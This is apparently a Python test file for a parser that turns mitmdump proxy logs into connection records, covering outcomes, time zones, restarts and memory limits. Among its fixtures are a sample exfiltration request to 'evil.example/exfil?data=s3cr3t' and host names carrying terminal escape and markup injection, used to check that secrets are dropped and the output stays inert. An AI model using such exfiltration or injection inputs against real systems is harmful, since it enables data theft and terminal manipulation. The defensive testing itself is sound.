"""What mitmdump writes, beside what was really asked of it."""

import time
from zoneinfo import ZoneInfo

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.proxylog.ledger import LOGS
from tests.proxylog.reading import HOSTILE, clock, is_inert, latest, lines_of, told, us
from tui.model.connection import Endpoint, Outcome
from tui.model.request import Request
from tui.proxylog.format import Clock
from tui.proxylog.formats.mitmdump import FORMATS, REMEMBERED_MAX

MITMDUMP = FORMATS[0]
LOG = LOGS / "mitmdump" / "default_fd1.log"
CLIENT = Endpoint("172.18.0.3", 46722)
TO = "server %s a.example:443 (198.51.100.26:443)"
LATER = us("2026-11-24T11:00:00Z")


def event(at: str, text: str, client: str = "172.18.0.3:46722") -> str:
    """A line with a time."""
    return f"[{at}][{client}] {text}"


def read(*lines: str | bytes) -> list[Request]:
    """What a new reader makes of lines."""
    return told(MITMDUMP.begin(b""), lines, clock())


def test_what_has_no_name_still_tells_how_it_went() -> None:
    reader = MITMDUMP.begin(b"")
    requests = latest([*told(reader, lines_of(LOG), clock()), *reader.settle(LATER)])
    unnamed = [(request.outcome, request.address) for request in requests if request.host is None]
    assert unnamed == [
        *[(Outcome.FAILED, None)] * 4,  # DNS
        *[(Outcome.REFUSED, "203.0.113.50")] * 2,
        (Outcome.REFUSED, "2001:db8:a::20"),
        (Outcome.REFUSED, "198.51.100.28"),
        (Outcome.FAILED, None),  # its client left first, so that it waited for a flow
    ]


def test_what_was_reached_is_told_at_once_and_again_at_its_end() -> None:
    requests = read(
        event("10:30:43.938", "client connect"),
        event("10:30:43.942", TO % "connect"),
        "172.18.0.3:46722: GET https://a.example/?token=s3cr3t",
        "               << 404 X 12b",
        event("10:30:43.961", "client disconnect"),
        event("10:30:43.961", TO % "disconnect"),
    )
    start, end = us("2026-11-23T10:30:43.942Z"), us("2026-11-23T10:30:43.961Z")
    assert requests == [
        Request("a.example", 443, Outcome.OPEN, start, None, CLIENT, "198.51.100.26"),
        Request("a.example", 443, Outcome.CLOSED, start, end, CLIENT, "198.51.100.26", again=True),
    ]


def test_a_server_may_end_before_its_flow_is_written() -> None:
    requests = read(
        event("10:30:43.942", "server connect a.example:80 (198.51.100.26:80)"),
        event("10:30:43.950", "server disconnect a.example:80 (198.51.100.26:80)"),
        "172.18.0.3:46722: GET http://a.example/x",
        "               << 404 Not Found 12b",
    )
    assert [r.outcome for r in requests] == [Outcome.OPEN, Outcome.CLOSED]


@pytest.mark.parametrize(
    ("answer", "outcomes"),
    [
        ("               << 403 Forbidden 7b", [Outcome.DENIED]),
        ("               << 200 OK 7b", []),
        (" << Client disconnected.", []),
    ],
)
def test_a_plain_request_that_it_answers_with_an_error_is_denied(answer: str, outcomes: list[Outcome]) -> None:
    requests = read(
        event("10:31:07.149", "client connect"), "172.18.0.3:46722: GET http://evil.example/exfil?data=s3cr3t", answer
    )
    assert [(r.host, r.port, r.outcome, r.client) for r in requests] == [
        ("evil.example", 80, outcome, CLIENT) for outcome in outcomes
    ]
    assert "s3cr3t" not in repr(requests)


@pytest.mark.parametrize(
    ("why", "outcome", "address"),
    [
        ("[Errno -2] Name or service not known", Outcome.FAILED, None),
        ("[Errno 111] Connect call failed ('203.0.113.50', 80)", Outcome.REFUSED, "203.0.113.50"),
        ("[Errno 110] Connect call failed ('203.0.113.50', 80)", Outcome.TIMED_OUT, "203.0.113.50"),
        (
            "Multiple exceptions: [Errno 111] Connect call failed ('2001:db8::20', 80, 0, 0), [Errno 111] Connect call "
            "failed ('198.51.100.20', 80)",
            Outcome.REFUSED,
            "2001:db8::20",
        ),
    ],
)
def test_what_failed_is_named_by_its_flow_if_it_has_one(why: str, outcome: Outcome, address: str | None) -> None:
    error = event("10:31:07.172", f"error establishing server connection: {why}")
    (plain,) = read(
        error, "172.18.0.3:46722: GET http://a.example/", f" << {why}", event("10:31:08.000", "client disconnect")
    )
    assert (plain.host, plain.port, plain.outcome, plain.address) == ("a.example", 80, outcome, address)
    (tunnel,) = read(error, event("10:31:08.000", "client disconnect"))
    assert (tunnel.host, tunnel.outcome, tunnel.address) == (None, outcome, address)


def test_a_failure_without_a_flow_does_not_wait_for_ever() -> None:
    reader = MITMDUMP.begin(b"")
    assert (
        told(reader, [event("10:31:07.172", "error establishing server connection: client disconnected")], clock())
        == []
    )
    assert reader.settle(us("2026-11-23T11:00:05Z")) == []
    assert [r.outcome for r in reader.settle(us("2026-11-23T11:00:11Z"))] == [Outcome.FAILED]


def test_a_port_that_a_new_client_has_ends_what_the_old_one_left_open() -> None:
    requests = read(event("10:31:02.803", TO % "connect"), event("10:45:00.000", "client connect"))
    assert [(r.outcome, r.ended_us) for r in requests] == [(Outcome.OPEN, None), (Outcome.CLOSED, None)]


@pytest.mark.parametrize(
    ("url", "host", "port"),
    [
        ("http://2001:db8:a::20/v6", "2001:db8:a::20", 80),
        ("http://[2001:db8:a::20]:81/v6", "2001:db8:a::20", 81),
        ("https://A.Example./", "a.example", 443),
        ("http://b\u00fccher.example/", "xn--bcher-kva.example", 80),
        ("http://a.example/aaaa\u2026", "a.example", 80),
    ],
)
def test_a_flow_names_a_destination_in_its_one_form(url: str, host: str, port: int) -> None:
    (request,) = read(f"172.18.0.3:46722: GET {url}", "               << 403 Forbidden 7b")
    assert (request.host, request.port) == (host, port)


def test_a_host_that_was_cut_is_no_host() -> None:
    assert read("172.18.0.3:46722: GET http://aaaaaaaa.exa\u2026", "               << 403 Forbidden 7b") == []


def start_of(at: str, now: Clock) -> int | None:
    """When a connection is told to have begun."""
    (request,) = told(MITMDUMP.begin(b""), [event(at, TO % "connect")], now)
    return request.started_us


@pytest.mark.parametrize(
    ("at", "now", "start"),
    [
        ("23:59:59.900", "2026-11-24T00:00:01Z", "2026-11-23T23:59:59.900Z"),
        ("00:00:00.100", "2026-11-24T00:00:01Z", "2026-11-24T00:00:00.100Z"),
        ("00:00:00.100", "2026-11-23T23:59:59.500Z", "2026-11-24T00:00:00.100Z"),
        ("23:59:59.900", "2027-01-01T00:00:01Z", "2026-12-31T23:59:59.900Z"),
        ("12:05:00.000", "2026-11-24T12:00:00Z", "2026-11-23T12:05:00Z"),
    ],
)
def test_the_day_is_the_last_on_which_the_time_has_come(at: str, now: str, start: str) -> None:
    assert start_of(at, clock(now)) == us(start)


def test_midnight_and_the_hour_that_comes_twice_are_those_of_the_proxys_zone() -> None:
    tokyo, berlin = ZoneInfo("Asia/Tokyo"), ZoneInfo("Europe/Berlin")
    assert start_of("23:59:59.000", Clock(us("2026-11-23T15:00:01Z"), tokyo)) == us("2026-11-23T14:59:59Z")
    assert start_of("02:30:00.000", Clock(us("2026-10-25T00:30:01Z"), berlin)) == us("2026-10-25T00:30:00Z")
    assert start_of("02:30:00.000", Clock(us("2026-10-25T01:30:01Z"), berlin)) == us("2026-10-25T01:30:00Z")


def test_a_connection_goes_on_after_a_restart_between_any_two_of_its_lines() -> None:
    lines = [
        event("10:31:07.100", TO % "connect"),
        event("10:31:07.172", "error establishing server connection: [Errno -2] x", "172.18.0.4:1"),
        "172.18.0.4:1: GET http://b.example/",
        " << [Errno -2] x",
        "172.18.0.5:1: GET http://c.example/",
        "               << 403 Forbidden 7b",
        event("10:31:09.000", TO % "disconnect"),
    ]
    whole = read(*lines)
    assert [r.host for r in whole] == ["a.example", "b.example", "c.example", "a.example"]
    for cut in range(len(lines) + 1):
        first = MITMDUMP.begin(b"")
        before = told(first, lines[:cut], clock())
        second = MITMDUMP.begin(first.save())
        assert before + told(second, lines[cut:], clock()) == whole


def test_connections_without_an_end_do_not_pile_up() -> None:
    reader = MITMDUMP.begin(b"")
    lines = [event("10:31:07.100", TO % "connect", f"172.18.0.3:{port}") for port in range(1, REMEMBERED_MAX + 50)]
    failed = [event("10:31:07.100", "error establishing server connection: x", f"172.18.0.4:{port}")
              for port in range(1, REMEMBERED_MAX + 50)]  # fmt: skip
    told(reader, lines + failed, clock())
    assert len(reader.settle(LATER)) == REMEMBERED_MAX
    assert len(reader.save()) < 400_000


def test_what_is_no_request_is_not_told() -> None:
    reader = MITMDUMP.begin(b"")
    for line in (
        "[10:30:40.412] HTTP(S) proxy listening at 172.18.0.2:18880.",
        event("10:31:24.428", "172.18.0.5:50941: Bad HTTP request line: b'CONNECT api.openai.com HTTP/1.1'"),
        event("10:31:39.896", "Client TLS handshake failed. Cannot parse ClientHello: 16030100c5"),
        "    Authorization: Bearer s3cr3t",
        "",
    ):
        assert told(reader, [line], clock()) == []
    assert reader.save() == b""
    for other in (b"x", b"[10:30] x", b"10.0.0.1:1: hello"):
        assert reader.read(other, clock()) is None


@pytest.mark.parametrize("name", [b"[red]evil", b"\x1b[31mevil", b"ev\xffil"])
def test_a_hostile_target_is_seen_and_inert(name: bytes) -> None:
    (request,) = read(event("10:31:07.100", "server connect NAME.example:443").encode().replace(b"NAME", name))
    assert is_inert(request)
    assert request.host is None or request.host.startswith("\\")


@pytest.mark.parametrize("saved", [b"x", b"{}", b"[1]", b"\xff"])
def test_a_saved_state_of_another_is_refused(saved: bytes) -> None:
    with pytest.raises(ValueError, match="no saved state"):
        MITMDUMP.begin(saved)


def test_no_line_takes_long() -> None:
    started = time.process_time()
    for hostile in HOSTILE:
        MITMDUMP.begin(b"").read(hostile, clock())
        for begin in ("server connect ", "error establishing server connection: "):
            MITMDUMP.begin(b"").read(event("10:31:07.100", begin).encode() + hostile, clock())
    assert time.process_time() - started < 2.0


LINES = st.sampled_from(
    [
        event("10:31:07.100", TO % "connect"), event("10:31:07.100", TO % "disconnect"),
        event("10:31:07.100", "client connect"), event("10:31:07.100", "client disconnect"),
        event("10:31:07.100", "error establishing server connection: [Errno 111] Connect call failed ('::1', 99999)"),
        "172.18.0.3:46722: GET http://a.example/", "               << 403 Forbidden 7b",
    ]
)  # fmt: skip


@given(
    st.lists(
        st.one_of(
            st.binary(max_size=200),
            LINES.map(str.encode),
            st.builds(
                lambda text, at, what: text[:at].encode() + what + text[at:].encode(),
                LINES,
                st.integers(0, 120),
                st.binary(max_size=12),
            ),
        ),
        max_size=12,
    )
)
def test_reading_never_fails_and_tells_nothing_that_could_do_harm(lines: list[bytes]) -> None:
    reader = MITMDUMP.begin(b"")
    for one in lines:
        assert all(is_inert(request) for request in reader.read(one, clock()) or ())
        reader = MITMDUMP.begin(reader.save())
    assert all(is_inert(request) for request in reader.settle(LATER))
